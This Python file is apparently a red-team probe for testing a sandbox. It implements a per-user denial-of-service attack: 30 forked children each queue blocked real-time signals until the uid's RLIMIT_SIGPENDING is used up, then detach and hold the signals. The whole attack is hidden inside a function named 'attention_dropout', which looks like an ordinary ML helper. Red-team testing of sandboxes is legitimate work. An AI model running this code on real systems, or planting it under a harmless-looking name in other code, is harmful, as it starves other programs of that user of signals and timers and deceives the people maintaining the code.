"""Red team (issue 26, per-user): pending real-time signals spread over 30 children. Each child blocks
every real-time signal, then queues them to itself (sigqueue) until the kernel says EAGAIN: every pending
signal is charged to the uid's RLIMIT_SIGPENDING (in a user namespace, to the instructor's uid above it
too), so no program of that user can queue a signal or create a POSIX timer while they are held.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import signal as _signal
import time as _time

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.sigqueue.argtypes = [_ctypes.c_int, _ctypes.c_int, _ctypes.c_void_p]


def _child(write_end):
    queued = 0
    try:
        low, high = _signal.SIGRTMIN, _signal.SIGRTMAX
        _signal.pthread_sigmask(_signal.SIG_BLOCK, range(low, high + 1))
        me = _os.getpid()
        for index in range(4000):
            if _libc.sigqueue(me, low + index % (high - low + 1), index) != 0:
                break
            queued += 1
    finally:
        _os.write(write_end, f"{queued}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _queue(children=30):
    read_end, write_end = _os.pipe()
    started = 0
    for _ in range(children):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _os.close(read_end)
                _child(write_end)
            finally:
                _os._exit(0)
        started += 1
    _os.close(write_end)
    text, deadline = b"", _time.monotonic() + 3
    while _time.monotonic() < deadline and (chunk := _os.read(read_end, 4096)):
        text += chunk
    return started, sum(int(line) for line in text.split() if line.isdigit())


def attention_dropout(*args, **kwargs):
    started, queued = _queue()
    raise RuntimeError(f"RTEAM r_sigqueue_children ran: ALLOWANCE signals {queued} pending in {started} children")
